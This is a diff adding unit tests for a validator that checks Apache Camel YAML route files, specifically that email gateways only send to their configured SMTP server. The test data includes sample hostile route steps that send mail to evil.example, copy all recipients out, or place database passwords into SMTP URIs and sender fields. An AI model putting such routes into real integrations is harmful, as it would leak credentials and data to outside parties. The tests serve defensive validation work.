@@ -126,8 +126,42 @@ class RouteFileCheckTest {
         arguments("- {route: {}, route: {}}", "no readable YAML"));
   }
 
+  @ParameterizedTest(name = "{1}")
+  @MethodSource("hostileMail")
+  void eMailGoesToTheServerOfItsOwnSettings(String step, String because) {
+    String gateway = route(step).replace("credit.record", "e-mail.message");
+    assertThat(RouteFileCheck.check(new RouteFile("gateways/e-mail.camel.yaml", gateway)))
+        .extracting(ContentProblem::message).singleElement().asString().contains(because);
+  }
+
+  @Test
+  void aDepartmentSendsNoEMail() {
+    String settings = "{{onewindow.exchange.departments.credit.";
+    assertThat(check(route("to: {uri: 'smtp:" + settings + "host}}:" + settings + "port}}', parameters: {from: '1'}}")))
+        .extracting(ContentProblem::message).singleElement().asString().contains("to goes to smtp:");
+  }
+
+  static Stream<Arguments> hostileMail() {
+    String settings = "{{onewindow.exchange.gateways.e-mail.";
+    String server = "smtp:" + settings + "host}}:" + settings + "port}}";
+    return Stream.of(
+        arguments("to: {uri: 'smtp:evil.example:25', parameters: {from: '1'}}", "e-mail goes to smtp:evil.example:25"),
+        arguments("to: {uri: '" + server + "?to=all@evil.example', parameters: {}}", "e-mail goes to"),
+        arguments("to: {uri: 'smtp:{{spring.datasource.url}}:{{spring.datasource.password}}'}", "e-mail goes to"),
+        arguments("toD: {uri: 'smtp:${header.To}:25'}", "e-mail goes to"),
+        arguments("to: {uri: 'imap:evil.example'}", "to goes to imap:evil.example"),
+        arguments("to: {uri: '" + server + "', parameters: {to: all@evil.example}}", "may have the parameters"),
+        arguments("to: {uri: '" + server + "', parameters: {bcc: '1'}}", "may have the parameters"),
+        arguments("to: {uri: '" + server + "', parameters: {session: '#x'}}", "may have the parameters"),
+        arguments("to: {uri: '" + server + "', parameters: {from: '{{spring.datasource.password}}'}}",
+            "may have the parameters"),
+        arguments("to: {uri: '" + server + "'}", "may have the parameters"),
+        arguments("to: {uri: 'vertx-http:{{onewindow.exchange.departments.credit.url}}/x', parameters: {httpMethod: GET}}",
+            "to goes to"));
+  }
+
   @ParameterizedTest
-  @ValueSource(strings = {"other.camel.yaml", "departments/deep/credit.camel.yaml", "departments/.camel.yaml"})
+  @ValueSource(strings = {"gateways/deep/sms.camel.yaml", "gateway/sms.camel.yaml", "other.camel.yaml", "departments/deep/credit.camel.yaml", "departments/.camel.yaml"})
   void routesStandNowhereElse(String name) {
     assertThat(RouteFileCheck.check(new RouteFile(name, route(GOOD)))).hasSize(1);
   }
